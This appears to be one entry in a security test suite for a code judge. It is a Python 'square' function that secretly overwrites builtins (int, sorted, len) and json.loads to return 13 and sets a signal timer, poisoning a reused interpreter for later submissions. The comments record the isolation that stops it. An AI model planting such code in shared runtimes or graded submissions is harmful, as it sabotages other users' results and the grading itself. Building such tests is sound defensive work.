# attack: 58
# name: the warm interpreter poisoned for whoever comes next
# stopped by: a fresh process for every submission
# without: a process per submission
# then: WA
import builtins
import json
import sys


def square(n):
    import _signal

    builtins.int = builtins.sorted = builtins.len = lambda *_, **__: 13
    json.loads = lambda *_, **__: [13]
    sys.setrecursionlimit(10_000)
    _signal.setitimer(_signal.ITIMER_REAL, 30)
    return n * n
